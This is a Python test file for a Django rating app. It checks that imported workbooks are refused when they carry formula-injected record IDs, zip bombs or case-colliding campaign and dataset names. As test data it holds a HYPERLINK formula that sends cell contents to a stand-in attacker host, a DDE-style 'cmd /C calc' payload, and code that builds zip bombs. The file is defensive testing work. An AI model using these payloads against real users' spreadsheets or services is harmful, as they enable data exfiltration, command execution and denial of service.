"""Attacks through imported files and names: a record ID that is a formula, a workbook that unpacks to more
memory than a worker has, a zip of a million empty parts, and a campaign or dataset named like another one
but for its case.

Against the old main: an outside record ID `=HYPERLINK(...)` was stored and written back by `sheet.append`
into the hidden `_versions` sheet as a live formula; an 8.4 MB workbook unpacking to 185 MB was parsed (21 s,
~1.1 GB in the worker); `DEMO` was accepted beside the dataset `demo`.
"""

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.test import Client

from common.zip_limits import zip_member_count
from corpus.models import Dataset
from corpus.services.importing import ImportDataError, ImportSummary, dataset_get_or_create
from ratings.models import Campaign
from ratings.services.campaigns import CampaignSetupError, campaign_create
from ratings.services.workbooks import WorkbookImportError, workbook_import
from ratings.workbooks import layout, safety
from ratings.workbooks.reader import thumbs_workbook_parse
from ratings.workbooks.writer import thumbs_workbook_build
from tests.ratings.workbook_helpers import outside_workbook_make, table_counts

pytestmark = pytest.mark.django_db

FORMULA_ID = '=HYPERLINK("https://attacker.example/?"&A1,"3.wav")'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.fixture
def outside_workbook(make_user) -> bytes:
    return outside_workbook_make(helper=make_user("helper", "rater"))


def _record_renamed(content: bytes, new_id: str) -> bytes:
    """The workbook with its first record ID replaced by `new_id` (as a study's own workbook could hold it)."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for row in book["Assessment"].iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("study-"):
                cell.value = new_id
                buffer = io.BytesIO()
                book.save(buffer)
                return buffer.getvalue()
    raise AssertionError("no record ID found")


# --- Record IDs and the hidden sheet --------------------------------------------------------------------


def test_a_formula_as_record_id_is_refused_at_import_and_nothing_is_written(outside_workbook, make_user):
    rater = make_user("p1")
    attack = _record_renamed(outside_workbook, FORMULA_ID)
    counts = table_counts()
    with pytest.raises(WorkbookImportError) as refused:
        workbook_import(content=attack, file_name="P1.xlsx", campaign_name="outside", rater=rater, create_campaign=True)
    [error] = [error for error in refused.value.errors if "formula" in error]
    assert error.startswith("Assessment!") and "record ID starts with '='" in error, error
    assert table_counts() == counts and not Campaign.objects.filter(name="outside").exists()
    # Control: the same workbook with a plain file name as that record ID is imported.
    plain = _record_renamed(outside_workbook, "take-1.wav")
    summary = workbook_import(
        content=plain, file_name="P1.xlsx", campaign_name="outside", rater=rater, create_campaign=True
    )
    assert summary["clips_created"] == 3


@pytest.mark.parametrize("record_id", ["+1.wav", "-cmd|' /C calc'!A0", "@SUM(1)"])
def test_other_formula_starts_are_refused(record_id):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = layout.ASSESSMENT_SHEET
    labels = layout.HEADER_LABELS
    sheet.append([labels["number"], labels["record_id"], labels["caption_label"], None])
    for column, name in enumerate(layout.SCORE_FIELDS, start=5):
        sheet.cell(1, column).value = labels[name]
    sheet.append([1, None, "Caption 1", "a dog barks"])
    sheet.cell(2, 2).value = record_id
    sheet.cell(2, 2).data_type = "s"  # written as text: the reader must refuse it all the same
    buffer = io.BytesIO()
    book.save(buffer)
    parsed = thumbs_workbook_parse(io.BytesIO(buffer.getvalue()), name="P1.xlsx")
    assert any(error.startswith("Assessment!B2:") and "like a spreadsheet formula" in error for error in parsed.errors)
    # Control: the same sheet with a plain record ID has no error.
    sheet.cell(2, 2).value = "1.wav"
    buffer = io.BytesIO()
    book.save(buffer)
    assert thumbs_workbook_parse(io.BytesIO(buffer.getvalue()), name="P1.xlsx").errors == []


def test_the_hidden_versions_sheet_writes_formula_like_ids_as_text():
    versions = {FORMULA_ID: 3, "3.wav": 1}
    content = thumbs_workbook_build(clips=[], versions=versions)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    book = openpyxl.load_workbook(io.BytesIO(content))
    hidden = book[layout.VERSIONS_SHEET]
    assert hidden.sheet_state == "veryHidden"
    assert hidden["A2"].value == FORMULA_ID and hidden["A2"].data_type == "s" and hidden["A2"].quotePrefix
    # Read back exactly as written, so the import still compares versions by record ID.
    assert thumbs_workbook_parse(io.BytesIO(content)).export_versions == versions
    # Control: `sheet.append`, as the hidden sheet was written before, makes it a live formula.
    control = openpyxl.Workbook().active
    control.append([FORMULA_ID, 3])
    assert control["A1"].data_type == "f"


# --- Zip bombs: sizes and member counts ------------------------------------------------------------------


def _zip_with_members(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        for number in range(count):
            archive.writestr(f"x/{number}", b"")
    return buffer.getvalue()


def test_a_zip_of_many_empty_parts_is_refused_before_its_directory_is_read(monkeypatch, make_user):
    content = _zip_with_members(safety.MAX_MEMBERS + 500)
    assert zip_member_count(io.BytesIO(content)) == safety.MAX_MEMBERS + 502

    def unread(*args, **kwargs):
        raise AssertionError("the zip directory was parsed")

    rater = make_user("p1")
    monkeypatch.setattr(safety.zipfile, "ZipFile", unread)
    counts = table_counts()
    with pytest.raises(WorkbookImportError, match=r"has 1502 parts inside; an \.xlsx workbook has at most 1000"):
        workbook_import(content=content, file_name="parts.xlsx", campaign_name="c", rater=rater)
    assert table_counts() == counts


def test_an_audio_zip_of_many_empty_entries_is_refused_before_its_directory_is_read(monkeypatch):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from corpus.services import import_uploads

    content = _zip_with_members(import_uploads.ZIP_MAX_ENTRIES)  # 2 more than the limit

    def unread(*args, **kwargs):
        raise AssertionError("the zip directory was parsed")

    monkeypatch.setattr(import_uploads.zipfile, "ZipFile", unread)
    with pytest.raises(ImportDataError, match=r"pack\.zip: holds 4002 entries; an upload takes at most 1000 audio"):
        import_uploads.dataset_from_audio_create(
            dataset_name="bomb", audio_uploads=[SimpleUploadedFile("pack.zip", content)]
        )
    assert not Dataset.objects.filter(name="bomb").exists()


def test_a_high_ratio_zip_over_a_lowered_limit_is_refused_unopened(settings, make_user, monkeypatch):
    """A small crafted file (some 40 KB) that declares 4 MB of shared strings, with the limit lowered to 1 MB."""
    settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/sharedStrings.xml", b"<si><t>x</t></si>" * (4 * 1024 * 1024 // 17))
    content = buffer.getvalue()
    assert len(content) < 64 * 1024

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to parse a refused file")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    with pytest.raises(WorkbookImportError, match=r"bomb\.xlsx would unpack to 4\.0 MB, more than the 1\.0 MB"):
        workbook_import(content=content, file_name="bomb.xlsx", campaign_name="c", rater=make_user("p1"))


def _worst_case_workbook(unpacked_bytes: int) -> bytes:
    """Shared strings of tiny distinct texts: the part openpyxl holds whole in memory, at ~8x its XML size."""
    items, size, number = [], 0, 0
    while size < unpacked_bytes - 4096:
        item = b"<si><t>%x</t></si>" % number
        items.append(item)
        size += len(item)
        number += 1
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {MAIN} xmlns:r="{relationships}"><sheets>'
            '<sheet name="Assessment" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{relationships}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{relationships}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>",
        )
        archive.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {MAIN}><sheetData/></worksheet>')
        archive.writestr(
            "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {MAIN}>'.encode() + b"".join(items) + b"</sst>"
        )
    return buffer.getvalue()


def test_a_worst_case_workbook_at_the_default_limit_peaks_under_256_mb(settings, tmp_path):
    """Parsed in a fresh process (Django loaded) so its peak memory is its own; one just over the limit is
    refused by its declared size, although its compression ratio (~8:1) looks like any workbook's."""
    limit = settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES
    assert limit == 16 * 1024 * 1024, "the default the bound was measured for"
    just_under = tmp_path / "worst.xlsx"
    just_under.write_bytes(_worst_case_workbook(limit))
    script = (
        "import sys, django; django.setup()\n"
        "from ratings.services.workbook_import import workbook_parse_checked, WorkbookImportError\n"
        "content = open(sys.argv[1], 'rb').read()\n"
        "try:\n"
        "    workbook_parse_checked(content=content, name='worst.xlsx')\n"
        "except WorkbookImportError as error:\n"
        "    print(error)\n"
        # VmHWM is this process's own peak (ru_maxrss would carry the forking test process's peak over exec).
        "peak = [line for line in open('/proc/self/status') if line.startswith('VmHWM')][0].split()[1]\n"
        "print('peak', int(peak) // 1024)\n"
    )
    environment = {**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings", "HF_HUB_OFFLINE": "1"}
    environment.pop("WORKBOOK_MAX_UNCOMPRESSED_BYTES", None)
    result = subprocess.run(
        [sys.executable, "-c", script, str(just_under)],
        capture_output=True,
        text=True,
        env=environment,
        cwd=Path(__file__).resolve().parents[2],
        timeout=300,
        check=True,
    )
    peak = int(result.stdout.strip().splitlines()[-1].split()[1])
    print(f"\nworst-case workbook of {just_under.stat().st_size / 1e6:.1f} MB unpacking to 16 MiB: peak {peak} MB")
    assert "would unpack" not in result.stdout, "parsed, not refused: the limit is what bounds the memory"
    assert peak <= 256
    with pytest.raises(WorkbookImportError, match="would unpack to 17.0 MB, more than the 16.0 MB allowed"):
        from ratings.services.workbook_import import workbook_parse_checked

        workbook_parse_checked(content=_worst_case_workbook(17 * 1024 * 1024 + 4096), name="x.xlsx")


# --- Names compared without case --------------------------------------------------------------------------


def test_an_outside_campaign_named_like_a_dataset_but_for_case_is_refused(outside_workbook, make_user):
    Dataset.objects.create(name="demo")
    rater = make_user("p1")
    counts = table_counts()
    with pytest.raises(WorkbookImportError, match=r"'DEMO' is the name of an existing dataset \('demo'; names"):
        workbook_import(
            content=outside_workbook, file_name="P1.xlsx", campaign_name="DEMO", rater=rater, create_campaign=True
        )
    assert table_counts() == counts
    summary = workbook_import(
        content=outside_workbook, file_name="P1.xlsx", campaign_name="DEMO-2", rater=rater, create_campaign=True
    )
    assert summary["clips_created"] == 3, "control: a name of its own is accepted"
    # An outside import into "demo-2" (another case of the campaign just made) is refused, not a second study.
    with pytest.raises(WorkbookImportError, match="differs only in case from the existing campaign DEMO-2"):
        workbook_import(content=outside_workbook, file_name="P1.xlsx", campaign_name="demo-2", rater=rater)


def test_campaign_names_differing_only_in_case_are_refused_everywhere(make_user):
    dataset = Dataset.objects.create(name="corpus")
    campaign_create(name="demo", dataset=dataset, task_type="thumbs")
    with pytest.raises(CampaignSetupError, match="DEMO differs only in case from the existing campaign demo"):
        campaign_create(name="DEMO", dataset=dataset, task_type="thumbs")
    admin = make_user("admin", staff=True)
    client = Client()
    client.force_login(admin)
    response = client.post(
        "/api/campaigns/", {"name": "Demo", "dataset": "corpus", "task_type": "thumbs"}, content_type="application/json"
    )
    assert response.status_code == 400 and "differs only in case" in response.json()["name"][0], response.content
    assert list(Campaign.objects.values_list("name", flat=True)) == ["demo"]
    assert campaign_create(name="demo-b", dataset=dataset, task_type="thumbs").name == "demo-b"  # control


def test_dataset_names_differing_only_in_case_are_refused_at_import():
    Dataset.objects.create(name="demo")
    with pytest.raises(ImportDataError, match='"DEMO" differs only in case from the existing dataset "demo"'):
        dataset_get_or_create(name="DEMO", summary=ImportSummary("test"))
    assert dataset_get_or_create(name="demo", summary=ImportSummary("test")).name == "demo"  # the same name: reused
    assert Dataset.objects.count() == 1
    from django.core.files.uploadedfile import SimpleUploadedFile

    from corpus.services.import_uploads import dataset_from_audio_create

    with pytest.raises(ImportDataError, match='dataset name "Demo": a dataset of this name exists \\("demo", case'):
        dataset_from_audio_create(dataset_name="Demo", audio_uploads=[SimpleUploadedFile("a.wav", b"RIFF")])
    assert Dataset.objects.count() == 1
